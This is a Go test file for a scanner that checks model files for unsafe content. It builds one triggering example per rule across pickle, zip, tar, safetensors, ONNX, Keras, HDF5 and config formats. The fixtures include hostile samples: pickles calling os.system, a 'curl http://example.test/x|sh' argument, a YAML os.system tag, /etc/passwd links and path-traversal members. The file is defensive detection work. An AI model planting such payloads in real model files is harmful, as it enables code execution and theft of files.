package scan_test

import (
	"bytes"
	"flag"
	"io/fs"
	"maps"
	"os"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/prerun/prerun/integrity/scan"
	"github.com/prerun/prerun/integrity/scan/internal/build"
	"github.com/prerun/prerun/internal/ruledoc"
)

var update = flag.Bool("update", false, "rewrite RULES.md and FORMATS.md")

// A ruleExample is a file that triggers one rule, and what RULES.md says of it.
type ruleExample struct {
	looks  string // a sentence in Markdown
	file   string
	data   []byte
	beside map[string][]byte // other files of its folder
	links  map[string]string // symbolic links of its folder, and what they lead to
	limits scan.Limits
	also   []string // other rules that speak of such a file, sorted
}

// ruleExamples has one example for each rule that [scan.Rules] lists. Formats
// that live in files of their own may add theirs in functions like this one.
func ruleExamples() map[string]ruleExample {
	all := make(map[string]ruleExample)
	for _, list := range []map[string]ruleExample{
		engineExamples(), archiveExamples(), pickleExamples(), torchExamples(), kerasExamples(), graphExamples(), graphFileExamples(), repositoryExamples(),
		frameworkExamples(), tabularExamples(),
	} {
		maps.Copy(all, list)
	}
	return all
}

const smallHeader = `{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}`

func engineExamples() map[string]ruleExample {
	floats, text := make([]byte, 16), []byte("hello\n")
	tensors := build.Safetensors(smallHeader, floats)
	return map[string]ruleExample{
		"scan.file.polyglot": {
			looks: "a pickle with a zip archive behind it: `torch.load` opens the archive, `pickle.load` the pickle.", file: "model.pt",
			data: slices.Concat(build.Harmless(), build.Zip(build.Member{Name: "x", Data: text})), also: []string{"scan.zip.prefix-data"},
		},
		"scan.file.range-overlap": {
			looks: "a zip archive whose entries `a` and `a2` share one compressed content.", file: "a.zip",
			data: build.Zip(build.Member{Name: "a", Data: text}, build.Member{Name: "a2", Data: text, Same: 1}), also: []string{"scan.zip.name-mismatch"},
		},
		"scan.file.executable": {looks: "an ELF library among the files of a model.", file: "libop.so", data: build.ELF()},
		"scan.file.embedded-executable": {
			looks: "an ELF program behind the last tensor of a safetensors file.", file: "model.safetensors",
			data: slices.Concat(tensors, build.ELF()), also: []string{"scan.safetensors.layout"},
		},
		"scan.file.hidden-content": {
			looks: "a pickle that calls `os.system` behind the last tensor of a safetensors file.", file: "model.safetensors",
			data: slices.Concat(tensors, build.Attack()), also: []string{"scan.pickle.call-on-load", "scan.safetensors.layout"},
		},
		"scan.tree.link-escape": {looks: "a symbolic link `config.json` that leads to `/etc/passwd`.", file: "config.json", links: map[string]string{"config.json": "/etc/passwd"}},
		"scan.safetensors.layout": {
			looks: "eight bytes behind the last tensor.", file: "model.safetensors", data: slices.Concat(tensors, make([]byte, 8)),
		},
		"scan.safetensors.metadata": {
			looks: "metadata that holds `__import__('os')`.", file: "model.safetensors",
			data: build.Safetensors(`{"__metadata__":{"x":"__import__('os')"},"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}`, floats),
		},
		"scan.npy.trailing-data": {looks: "an array of two floats and room for four.", file: "a.npy", data: build.NPY("<f4", "(2,)", floats)},
		"scan.gguf.layout":       {looks: "a tensor whose data starts beyond the end of the file.", file: "model.gguf", data: gguf(nil, 1<<20, 0)},
	}
}

func archiveExamples() map[string]ruleExample {
	text, member := []byte("hello\n"), build.Member{Name: "a", Data: []byte("hello\n")}
	return map[string]ruleExample{
		"scan.archive.path-traversal": {looks: "a member called `../x`.", file: "a.zip", data: build.Zip(build.Member{Name: "../x", Data: text})},
		"scan.archive.absolute-path":  {looks: "a member called `/etc/x`.", file: "a.zip", data: build.Zip(build.Member{Name: "/etc/x", Data: text})},
		"scan.archive.odd-name":       {looks: "a member called `a`, a NUL byte, `.txt`.", file: "a.zip", data: build.Zip(build.Member{Name: "a\x00.txt", Data: text})},
		"scan.archive.link":           {looks: "a member that is a symbolic link to `/etc`.", file: "a.zip", data: build.Zip(build.Member{Name: "l", Data: []byte("/etc"), UnixMode: 0o120777})},
		"scan.archive.special-member": {looks: "a member that is a character device.", file: "a.tar", data: build.Tar(build.TarMember{Name: "d", Kind: '3'})},
		"scan.archive.duplicate-name": {looks: "two members called `a`.", file: "a.zip", data: build.Zip(member, build.Member{Name: "a", Data: []byte("other\n")})},
		"scan.archive.bomb":           {looks: "zeros in a gzip stream of a thousandth of their size.", file: "a.gz", data: build.Gzip(make([]byte, 2<<20)), limits: scan.Limits{Bomb: 1 << 20}},
		"scan.compressed.trailing-data": {
			looks: "three bytes behind the end of a gzip stream.", file: "a.gz", data: append(build.Gzip(text), 0, 0, 0),
		},
		"scan.tar.trailing-data": {looks: "three bytes behind the two empty blocks that end a tar.", file: "a.tar", data: append(build.Tar(build.TarMember{Name: "a", Data: text}), 1, 2, 3)},
		"scan.tar.ambiguous-member": {
			looks: "a folder whose header states the size of a tar archive, which follows.", file: "a.tar",
			data: build.Tar(build.TarMember{Name: "d", Kind: '5', Data: build.Tar(build.TarMember{Name: "a", Data: text})}),
		},
		"scan.sevenzip.unused-data": {
			looks: "three bytes before the packed streams that no folder uses.", file: "a.7z",
			data: build.SevenZip{Members: []build.SevenZipMember{{Name: "a", Data: text}}, Prefix: []byte{1, 2, 3}}.Bytes(),
		},
		"scan.sevenzip.wrong-checksum": {
			looks: "a member whose checksum is not that of its content.", file: "a.7z",
			data: build.SevenZip{Members: []build.SevenZipMember{{Name: "a", Data: text}}, WrongCRC: true}.Bytes(),
		},
		"scan.zip.name-mismatch":      {looks: "a member that is `data.pkl` in the directory and `datap.kl` in its own header.", file: "a.zip", data: build.Zip(build.Member{Name: "data.pkl", Local: "datap.kl", Data: build.Harmless()})},
		"scan.zip.header-mismatch":    {looks: "a member with another size in the directory than in its own header.", file: "a.zip", data: build.Zip(build.Member{Name: "a", Data: text, SizeDelta: 9}), also: []string{"scan.zip.wrong-checksum"}},
		"scan.zip.wrong-checksum":     {looks: "a member whose CRC-32 is not that of its content.", file: "a.zip", data: build.Zip(build.Member{Name: "a", Data: text, WrongCRC: true})},
		"scan.zip.false-flag":         {looks: "a plain member with the flag that says encrypted.", file: "a.zip", data: build.Zip(build.Member{Name: "a", Data: text, Flags: 1})},
		"scan.zip.hidden-member":      {looks: "a member that the directory does not list.", file: "a.zip", data: build.Zip(member, build.Member{Name: "b.pkl", Data: build.Harmless(), Hidden: true})},
		"scan.zip.prefix-data":        {looks: "four bytes before the first member.", file: "a.zip", data: build.Archive{Members: []build.Member{member}, Prefix: []byte{1, 0, 2, 0}}.Bytes()},
		"scan.zip.trailing-data":      {looks: "nine bytes behind the end record.", file: "a.zip", data: build.Archive{Members: []build.Member{member}, Suffix: make([]byte, 9)}.Bytes()},
		"scan.zip.directory-mismatch": {looks: "an end record that counts three members more than the directory lists.", file: "a.zip", data: build.Archive{Members: []build.Member{member}, CountDelta: 3}.Bytes()},
	}
}

func pickleExamples() map[string]ruleExample {
	proto4 := func(code string) []byte { return []byte("\x80\x04" + code + ".") }
	return map[string]ruleExample{
		"scan.pickle.call-on-load":        {looks: "`GLOBAL os system`, the text `echo`, `REDUCE`.", file: "m.pkl", data: build.Attack()},
		"scan.pickle.denied-global":       {looks: "`GLOBAL os system` alone, without a call.", file: "m.pkl", data: proto4("cos\nsystem\n")},
		"scan.pickle.unlisted-call":       {looks: "a call of `mylib.models.Net` without arguments.", file: "m.pkl", data: proto4("cmylib.models\nNet\n)R")},
		"scan.pickle.unlisted-global":     {looks: "`GLOBAL mylib.models Net` alone.", file: "m.pkl", data: proto4("cmylib.models\nNet\n")},
		"scan.pickle.checked-call":        {looks: "a call of `getattr` on `collections.OrderedDict` for a private attribute.", file: "m.pkl", data: proto4("cbuiltins\ngetattr\nccollections\nOrderedDict\n\x8c\x01_\x86R")},
		"scan.pickle.dangerous-arguments": {looks: "a call of `mylib.run` with `curl http://example.test/x|sh`.", file: "m.pkl", data: proto4("cmylib\nrun\n\x8c\x1dcurl http://example.test/x|sh\x85R")},
		"scan.pickle.dynamic-import":      {looks: "`STACK_GLOBAL` whose module name is the result of a call.", file: "m.pkl", data: proto4("ccollections\nOrderedDict\n)R\x8c\x01f\x93")},
		"scan.pickle.computed-call":       {looks: "a call of the `OrderedDict` that a call has just made.", file: "m.pkl", data: proto4("ccollections\nOrderedDict\n)R)R")},
		"scan.pickle.extension-code":      {looks: "`EXT1 1`.", file: "m.pkl", data: proto4("\x82\x01")},
		"scan.pickle.live-write":          {looks: "`BUILD` on the class `collections.OrderedDict` itself.", file: "m.pkl", data: proto4("ccollections\nOrderedDict\n}\x8c\x01a\x8c\x01bsb")},
		"scan.pickle.odd-name":            {looks: "`GLOBAL` of a name with a blank in it.", file: "m.pkl", data: proto4("cmylib\nna me\n")},
		"scan.pickle.divergence":          {looks: "an integer in base 16, which Python's loaders read and `pickletools` does not.", file: "m.pkl", data: []byte("\x80\x02I0x10\n.")},
		"scan.pickle.memo-bomb":           {looks: "`LONG_BINPUT` to index 2147483647.", file: "m.pkl", data: []byte("\x80\x02}r\xff\xff\xff\x7f.")},
		"scan.pickle.payload":             {looks: "a bytes literal that is an ELF program.", file: "m.pkl", data: proto4("C\x40" + string(build.ELF()))},
	}
}

func torchExamples() map[string]ruleExample {
	with := func(line string) []byte { return script(ordinaryScript + "    " + line + "\n") }
	mar := func(manifest string) []byte {
		return build.Zip(build.Member{Name: "model.pt", Data: torchZip(nil)}, build.Member{Name: "MAR-INF/MANIFEST.json", Data: []byte(manifest)})
	}
	return map[string]ruleExample{
		"scan.torch.tar-layout": {
			looks: "a tar of `storages`, `tensors`, `pickle` and `sys_info`, as torch wrote it before 2017.", file: "m.pt",
			data: build.Tar(
				build.TarMember{Name: "storages", Data: []byte("\x80\x02K\x00.")}, build.TarMember{Name: "tensors", Data: []byte("\x80\x02K\x00.")},
				build.TarMember{Name: "pickle", Data: build.Harmless()}, build.TarMember{Name: "sys_info", Data: build.Harmless()},
			),
		},
		"scan.pickle.tensor-write": {
			looks: "`SETITEM` on the result of `_rebuild_tensor_v2`.", file: "m.pt",
			data: torchModel(torchTensor("torch._utils\n_rebuild_tensor_v2", torchStorage("torch\nFloatStorage", 4), 0, []any{4}, []any{1}, "\x89", "N")+"I0\nI7\ns", 16),
		},
		"scan.pickle.tensor-size": {
			looks: "a tensor of five floats over a storage of four.", file: "m.pt",
			data: torchModel(torchTensor("torch._utils\n_rebuild_tensor_v2", torchStorage("torch\nFloatStorage", 4), 0, []any{5}, []any{1}, "\x89", "N"), 16),
		},
		"scan.torchscript.reaching-operator": {looks: "code that calls `torch.from_file(\"/etc/passwd\")`.", file: "m.pt", data: with(`x2 = torch.from_file("/etc/passwd", False, 10)`)},
		"scan.torchscript.custom-operator":   {looks: "code that calls `ops.torch_scatter.sum`.", file: "m.pt", data: with(`x2 = ops.torch_scatter.sum(x1)`)},
		"scan.torchscript.python-code":       {looks: "code that calls `eval`.", file: "m.pt", data: with(`eval("1")`)},
		"scan.torchserve.handler":            {looks: "a manifest with the handler `../../evil.py`.", file: "m.mar", data: mar(`{"model": {"handler": "../../evil.py"}}`)},
		"scan.torchserve.requirements":       {looks: "a manifest that names `requirements.txt`.", file: "m.mar", data: mar(`{"model": {"handler": "image_classifier", "requirementsFile": "requirements.txt"}}`)},
	}
}

func kerasExamples() map[string]ruleExample {
	h5 := func(m ...build.HDF5Message) []byte { return build.HDF5{Messages: m}.Bytes() }
	return map[string]ruleExample{
		"scan.keras.lambda":         {looks: "a `Lambda` layer with marshalled byte code.", file: "config.json", data: []byte(`{"class_name": "Model", "config": {"layers": [{"class_name": "Lambda", "config": {"function": ["4wEAAAA=", null, null]}}]}}`)},
		"scan.keras.foreign-module": {looks: "an activation function from the module `os`.", file: "config.json", data: []byte(`{"class_name": "X", "config": {"activation": {"module": "os", "class_name": "function", "config": "system"}}}`)},
		"scan.torch.expression":     {looks: "a size of a program of `torch.export` that is `__import__('os')`.", file: "serialized_exported_program.json", data: []byte(`{"range": {"as_expr": {"expr_str": "__import__('os')"}}}`)},
		"scan.torch.package-code": {looks: "an archive of `torch.package` with a module of its own.", file: "p.pt", data: build.Zip(
			build.Member{Name: "p/.data/extern_modules", Data: []byte("torch\n")}, build.Member{Name: "p/mine.py", Data: []byte("import os\n")})},
		"scan.keras.file-argument": {looks: "a `StringLookup` whose vocabulary is `/etc/passwd`.", file: "config.json", data: []byte(`{"class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}`)},
		"scan.keras.gadget":        {looks: "`keras.utils.get_file` as a function of the model.", file: "config.json", data: []byte(`{"class_name": "X", "config": {"f": {"module": "keras.utils", "class_name": "function", "config": "get_file"}}}`)},
		"scan.keras.custom-object": {looks: "a class registered as `mine>X`.", file: "m.h5", data: kerasH5(`{"class_name": "X", "config": {}, "registered_name": "mine>X"}`).Bytes()},
		"scan.keras.foreign-member": {
			looks: "`x.txt` in a `.keras` archive.", file: "m.keras",
			data: build.Zip(
				build.Member{Name: "metadata.json", Data: []byte("{}")}, build.Member{Name: "config.json", Data: []byte(kerasDense)},
				build.Member{Name: "model.weights.h5", Data: build.HDF5{}.Bytes()}, build.Member{Name: "x.txt", Data: []byte("a\n")},
			),
		},
		"scan.hdf5.external-link":    {looks: "a link to `/b` of the file `/etc/passwd`.", file: "m.h5", data: h5(build.HDF5Link("a", "/etc/passwd", "/b"))},
		"scan.hdf5.external-storage": {looks: "a data set whose data is in `../d.bin`.", file: "m.h5", data: hdf5File("links_earliest"), also: []string{"scan.hdf5.external-link", "scan.hdf5.virtual-dataset"}},
		"scan.hdf5.virtual-dataset":  {looks: "a data set made of a data set of `other.h5`.", file: "m.h5", data: hdf5File("links_earliest"), also: []string{"scan.hdf5.external-link", "scan.hdf5.external-storage"}},
		"scan.hdf5.plugin-filter":    {looks: "a data set packed by filter 300, which nobody registered.", file: "m.h5", data: h5(build.HDF5Filter(300))},
		"scan.hdf5.user-block":       {looks: "512 bytes before the superblock.", file: "m.h5", data: build.HDF5{Prefix: make([]byte, 512)}.Bytes()},
		"scan.hdf5.trailing-data":    {looks: "nine bytes behind the end that the superblock states.", file: "m.h5", data: build.HDF5{Suffix: make([]byte, 9)}.Bytes()},
	}
}

func graphExamples() map[string]ruleExample {
	floats := make([]byte, 16)
	onnx := func(nodes, tensors []build.Proto) []byte { return build.ONNX(nodes, tensors) }
	external := func(entries ...string) []byte {
		return onnx([]build.Proto{build.Node("Relu", "")}, []build.Proto{build.ExternalTensor("w", []uint64{4}, entries...)})
	}
	lite := func(change func(m build.Flat)) []byte { return build.TFLite(make([]byte, 64), change) }
	graph := func(m build.Flat) build.Flat { return m[2].([]build.Flat)[0] }
	return map[string]ruleExample{
		"scan.onnx.external-path":  {looks: "a tensor whose data is in `../../etc/passwd`.", file: "m.onnx", data: external("location", "../../etc/passwd")},
		"scan.onnx.external-range": {looks: "a tensor of 16 bytes at offset 8 of a file of 16 bytes.", file: "m.onnx", data: external("location", "w.data", "offset", "8", "length", "16"), beside: map[string][]byte{"w.data": floats}},
		"scan.onnx.external-link": {
			looks: "a tensor whose data is in `w.data`, which is a symbolic link to `w.bin`.", file: "m.onnx", data: external("location", "w.data"),
			beside: map[string][]byte{"w.bin": floats}, links: map[string]string{"w.data": "w.bin"},
		},
		"scan.onnx.custom-operator": {
			looks: "the operator `Magic` of the domain `evil.corp`.", file: "m.onnx", data: onnx([]build.Proto{build.Node("Magic", "evil.corp")}, nil),
		},
		"scan.onnx.python-operator": {looks: "the operator `PythonOp`.", file: "m.onnx", data: onnx([]build.Proto{build.Node("PythonOp", "com.microsoft")}, nil)},
		"scan.onnx.size-claim":      {looks: "a tensor of shape (400) with 16 bytes.", file: "m.onnx", data: onnx([]build.Proto{build.Node("Relu", "")}, []build.Proto{build.Tensor("w", []uint64{400}, floats)})},
		"scan.onnx.function-recursion": {
			looks: "a function `F` that uses `F`.", file: "m.onnx",
			data: build.ONNX([]build.Proto{build.Node("F", "own")}, nil, func(m build.Proto) build.Proto {
				return m.Bytes(25, build.Proto(nil).Text(1, "F").Text(10, "own").Bytes(7, build.Node("F", "own")))
			}),
		},
		"scan.tensorflow.file-operator":   {looks: "the operator `ReadFile`.", file: "saved_model.pb", data: savedModel("ReadFile")},
		"scan.tensorflow.python-operator": {looks: "the operator `EagerPyFunc`.", file: "saved_model.pb", data: savedModel("EagerPyFunc")},
		"scan.tflite.custom-operator":     {looks: "a custom operator `Magic`.", file: "m.tflite", data: build.TFLite(make([]byte, 64), nil, "Magic")},
		"scan.tflite.layout":              {looks: "a tensor whose buffer does not exist.", file: "m.tflite", data: lite(func(m build.Flat) { graph(m)[0].([]build.Flat)[0][2] = uint32(99) })},
		"scan.tflite.external-path": {
			looks: "a tensor whose data is in `/etc/passwd`.", file: "m.tflite",
			data: lite(func(m build.Flat) {
				graph(m)[0].([]build.Flat)[0][10] = uint32(7)
				m[8], m[9] = []build.Flat{{0: "/etc/passwd"}}, []build.Flat{{0: uint32(7), 1: uint32(0)}}
			}),
		},
		"scan.tflite.subgraph-recursion": {
			looks: "a `WHILE` whose body is the graph that it stands in.", file: "m.tflite",
			data: lite(func(m build.Flat) {
				m[1] = []build.Flat{{0: uint8(119), 3: int32(119)}}
				graph(m)[3] = []build.Flat{{0: uint32(0), 3: uint8(92), 4: build.Flat{0: int32(0), 1: int32(0)}}}
			}),
		},
		"scan.executorch.layout": {
			looks: "a segment of 2^50 bytes.", file: "m.pte",
			data: build.ExecuTorch(nil, nil, floats, func(p build.Flat) { p[4].([]build.Flat)[0][1] = uint64(1 << 50) }),
		},
		"scan.executorch.custom-kernel":    {looks: "the operator `mine::magic`.", file: "m.pte", data: build.ExecuTorch([]string{"mine::magic"}, nil, floats, nil)},
		"scan.executorch.unknown-delegate": {looks: "the delegate `MagicBackend`.", file: "m.pte", data: build.ExecuTorch(nil, []string{"MagicBackend"}, floats, nil)},
	}
}

func repositoryExamples() map[string]ruleExample {
	return map[string]ruleExample{
		"scan.config.auto-map":          {looks: "`\"auto_map\": {\"AutoModel\": \"modeling_x.X\"}`.", file: "config.json", data: []byte(`{"auto_map": {"AutoModel": "modeling_x.X"}}`)},
		"scan.config.remote-repository": {looks: "`\"auto_map\": {\"AutoTokenizer\": [\"other/repo--tok.T\", null]}`.", file: "tokenizer_config.json", data: []byte(`{"auto_map": {"AutoTokenizer": ["other/repo--tok.T", null]}}`)},
		"scan.config.trust-remote-code": {looks: "`\"trust_remote_code\": true`.", file: "config.json", data: []byte(`{"trust_remote_code": true}`)},
		"scan.config.custom-pipeline":   {looks: "a layer of type `evil.X` in `modules.json`.", file: "modules.json", data: []byte(`[{"type": "evil.X"}]`)},
		"scan.config.hydra-target":      {looks: "`\"_target_\": \"os.system\"`.", file: "x.json", data: []byte(`{"_target_": "os.system"}`)},
		"scan.yaml.python-tag":          {looks: "`!!python/object/apply:os.system [id]`.", file: "a.yaml", data: []byte("a: !!python/object/apply:os.system [id]\n")},
		"scan.repo.script":              {looks: "a file that starts with `#!/bin/sh`.", file: "run.sh", data: []byte("#!/bin/sh\n")},
		"scan.repo.python-bytecode":     {looks: "`x.pyc` of Python 3.11.", file: "x.pyc", data: append([]byte("\xa7\x0d\r\n"), make([]byte, 20)...)},
		"scan.repo.python-code":         {looks: "`modeling.py` beside `model.safetensors`.", file: "modeling.py", data: []byte("import os\n"), beside: map[string][]byte{"model.safetensors": build.Safetensors(smallHeader, make([]byte, 16))}},
		"scan.template.attack":          {looks: "`{{ ''.__class__ }}`.", file: "chat_template.jinja", data: []byte("{{ ''.__class__ }}")},
		"scan.template.unusual-access":  {looks: "`{{ x|attr('y') }}`.", file: "chat_template.jinja", data: []byte("{{ x|attr('y') }}")},
	}
}

// triggered lists the rules that speak of an example's file.
func (e ruleExample) triggered(t *testing.T) []string {
	t.Helper()
	fsys := fstest.MapFS{e.file: {Data: e.data}}
	for name, to := range e.links {
		fsys[name] = &fstest.MapFile{Data: []byte(to), Mode: fs.ModeSymlink | 0o777}
	}
	for name, data := range e.beside {
		fsys[name] = &fstest.MapFile{Data: data}
	}
	res, err := scan.Scanner{Limits: e.limits}.Scan(t.Context(), fsys)
	if err != nil {
		t.Fatal(err)
	}
	for i := range res.Files {
		if res.Files[i].Path == e.file {
			return rules(&res.Files[i])
		}
	}
	t.Fatalf("%q was not scanned", e.file)
	return nil
}

// TestRuleExamples proves that each example triggers its rule, and no other
// but those that it names.
func TestRuleExamples(t *testing.T) {
	known := make(map[string]bool)
	for _, r := range scan.Rules() {
		known[r.ID] = true
	}
	for id, e := range ruleExamples() {
		t.Run(id, func(t *testing.T) {
			if !known[id] {
				t.Error("no such rule")
			}
			if !strings.HasSuffix(e.looks, ".") {
				t.Errorf("%q is no sentence", e.looks)
			}
			want := slices.Sorted(slices.Values(append(slices.Clone(e.also), id)))
			if got := e.triggered(t); !slices.Equal(got, want) {
				t.Errorf("triggers %q, want %q", got, want)
			}
		})
	}
}

// TestRuleReference keeps RULES.md equal to the rules and their examples.
func TestRuleReference(t *testing.T) {
	const command = "go generate ./integrity/scan"
	looks := make(map[string]string)
	examples := ruleExamples()
	for _, r := range scan.Rules() {
		e, ok := examples[r.ID]
		if !ok {
			t.Errorf("%s has no example: add a file that triggers it to a function of ruleexamples_test.go, and run %s", r.ID, command)
		}
		looks[r.ID] = e.looks
	}
	want := ruledoc.Page{Package: "integrity/scan", Command: command, Rules: scan.Rules(), Examples: looks}.Markdown()
	if *update {
		if err := os.WriteFile("RULES.md", want, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if got, err := os.ReadFile("RULES.md"); err != nil || !bytes.Equal(got, want) {
		t.Errorf("RULES.md does not say what the rules and their examples say (%v): run %s", err, command)
	}
}
